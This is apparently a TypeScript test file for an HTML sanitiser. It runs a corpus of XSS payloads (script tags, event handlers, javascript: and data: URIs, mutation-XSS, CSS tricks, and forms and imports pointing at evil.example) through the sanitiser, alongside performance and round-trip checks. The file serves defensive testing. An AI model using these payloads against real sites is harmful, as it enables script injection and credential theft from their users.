import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { htmlProblem, htmlToPlainText, plainTextToHtml, sanitiseHtml } from '../../src/content/html.ts';

/** From the corpora of DOMPurify, sanitize-html and OWASP's filter-evasion sheet, one of each kind. */
const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"/><a id=x><text>y</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<style>@import "http://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<div style="background:url(http://evil.example/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<base href="http://evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="http://evil.example/"><input name=password><button>Go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="http://evil.example/x 1x" src="cid:a">',
  '<a href="http://x" style="display:block;position:absolute" onclick="alert(1)" id="location" name="cookie">x</a>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<a href="http://x&quot; onmouseover=&quot;alert(1)">x</a>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<div\x0conclick=alert(1)>x</div>',
  '<img/src/onerror=alert(1)>',
  '<<img src=x onerror=alert(1)>>',
  '\x00<scr\x00ipt>alert(1)</script>',
];

const names =
  /^(?:p|div|br|hr|blockquote|pre|h[1-6]|center|ul|ol|li|dl|dt|dd|table|caption|colgroup|col|thead|tbody|tfoot|tr|th|td|a|abbr|b|bdi|bdo|big|cite|code|del|dfn|em|font|i|img|ins|kbd|mark|q|s|samp|small|span|strike|strong|sub|sup|time|tt|u|var|wbr)$/;
const attributes =
  /^(?:dir|lang|title|align|style|href|rel|target|src|alt|width|height|color|face|size|start|type|border|cellpadding|cellspacing|bgcolor|colspan|rowspan|valign|scope|span|datetime|cite)$/;

/** Reads output strictly: every `<` opens or closes a listed element with listed, quoted attributes, or the test fails. */
function assertInert(html: string) {
  const tags = [...html.matchAll(/<[\s\S]*?(?:>|$)/g)].map(([tag]) => tag);
  for (const tag of tags) {
    const parts = /^<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>$/.exec(tag);
    expect(parts, `${tag} in ${html}`).not.toBeNull();
    expect(parts![2]).toMatch(names);
    for (const [, name, value] of parts![3]!.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      expect(name).toMatch(attributes);
      if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:)/i);
      if (name === 'src') expect(value).toMatch(/^(?:https?:|cid:)/i);
      if (name === 'style') expect(value).not.toMatch(/url|expression|import|position|behavior|[@\\{}]/i);
    }
  }
  expect(html).not.toMatch(/<!|<\?/);
}

describe('what an author wrote is inert when it is shown (case 39)', () => {
  test.each(hostile)('%s', (html) => {
    for (const body of [html, `<p>before</p>${html}<p>after</p>`, html + html]) {
      expect(htmlProblem(body)).toBeUndefined();
      const clean = sanitiseHtml(body);
      assertInert(clean);
      expect(sanitiseHtml(clean)).toBe(clean);
      assertInert(plainTextToHtml(htmlToPlainText(body)));
    }
  });

  test('any mixture of the pieces of hostile HTML', () => {
    const pieces = hostile
      .flatMap((html) => html.split(/(?<=>)|(?=<)|(?<=")/))
      .concat(['&lt;', '&#60;', '">', "'", '`', '<!--', '-->']);
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), (parts) => {
        const clean = sanitiseHtml(parts.join(''));
        assertInert(clean);
        expect(sanitiseHtml(clean)).toBe(clean);
      }),
      { numRuns: 800, seed: 39 },
    );
  });
});

test('what people write stays as they wrote it', () => {
  const html =
    '<p style="color:red">Hello <b>you</b>, <a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">look</a></p><ul><li>a</li></ul><img src="cid:photo.png" alt="p" /><table><tr><td colspan="2">1</td></tr></table>';
  expect(sanitiseHtml(html)).toBe(html);
  expect(htmlToPlainText(html)).toBe('Hello you, look <https://x.example/?a=1&b=2>\n\n * a\n\n1');
});

describe('a body that cannot be read within its bound is named, at once', () => {
  const full = (piece: string) => piece.repeat(Math.floor(2 ** 20 / piece.length));
  test.each([
    ['depth', full('<b>')],
    ['alternating depth', full('<p><div>')],
    ['lists', full('<ul><li>')],
    ['tags', full('<br>')],
    ['end tags', full('</p>')],
    ['one long tag', `<a ${full('a ')}`],
    ['one long style', `<p style="${full('{')}">`],
    ['iframes', full('<iframe>')],
    ['noscripts', full('<noscript></noscript>x')],
  ])('%s', (_, html) => {
    const begin = performance.now();
    expect(htmlProblem(html)).toMatch(/HTML/);
    expect(performance.now() - begin).toBeLessThan(200);
  });

  test.each([
    ['less-than signs', full('<')],
    ['comments', full('<!--')],
    ['ampersands', full('&')],
    ['text', full('word ')],
    ['full depth and tags', '<div>'.repeat(199) + '<i>some text</i>'.repeat(9900)],
    ['full indents', '<ul><li>'.repeat(60) + 'x<br>'.repeat(19_800)],
    ['many attributes', `<p ${'a=1 '.repeat(49_000)}>`],
    ['many styles', `<p style="${'color:red;'.repeat(19_900)}">`],
  ])('and what is within it costs little: %s', (_, html) => {
    expect(htmlProblem(html)).toBeUndefined();
    const begin = process.cpuUsage();
    sanitiseHtml(html);
    htmlToPlainText(html);
    expect(process.cpuUsage(begin).user / 1000).toBeLessThan(4000);
  });
});

test('text becomes HTML that looks the same', () => {
  expect(plainTextToHtml('a <b> & "c"\r\n  d\te')).toBe(
    'a &lt;b&gt; &amp; &quot;c&quot;<br>\n&nbsp; d&nbsp;&nbsp;&nbsp; e',
  );
  expect(plainTextToHtml('see (https://x.example/a?b=1&c=2).')).toBe(
    'see (<a href="https://x.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">https://x.example/a?b=1&amp;c=2</a>).',
  );
});
